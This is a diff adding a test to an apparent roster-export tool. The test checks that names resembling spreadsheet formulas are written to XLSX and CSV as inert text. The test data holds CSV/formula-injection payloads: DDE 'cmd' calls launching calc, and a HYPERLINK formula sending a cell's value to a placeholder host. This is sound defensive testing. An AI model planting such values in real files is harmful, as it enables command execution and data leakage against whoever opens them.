@@ -82,6 +82,21 @@ async def test_handout_lists_codes_and_links(db, examples):
     assert [list(r) for r in sheet.iter_rows(values_only=True)] == rows
 
 
+async def test_handout_keeps_formula_like_names_as_text(db, examples):
+    names = {"CGP01": "=cmd|' /C calc'!A0", "CGP02": '=HYPERLINK("http://contoh.invalid/?x="&D3,"Klik")',
+             "CGP03": "@SUM(1+1)*cmd|' /C calc'!A0", "CGP04": "-2+3+cmd|' /C calc'!A0"}
+    data = edit_csv((examples / "roster.csv").read_bytes(), {key: {"nama": name} for key, name in names.items()})
+    result = await import_bytes(db, data)
+    sheet = openpyxl.load_workbook(io.BytesIO(result.to_xlsx(BOT))).worksheets[0]
+    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
+    for key, name in names.items():
+        assert (cells[key].value, cells[key].data_type) == (name, "s")
+    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
+    rows = {row[0]: row for row in csv.reader(io.StringIO(result.to_csv(BOT).decode("utf-8-sig")))}
+    assert {key: rows[key][1] for key in names} == {key: f"'{name}" for key, name in names.items()}
+    assert rows["CGP05"][1] == "Nurhayati Daeng"
+
+
 async def test_codes_are_stored_only_as_hashes(db, examples):
     result = await import_bytes(db, (examples / "roster.csv").read_bytes())
     codes = [code for _, code in result.issued]
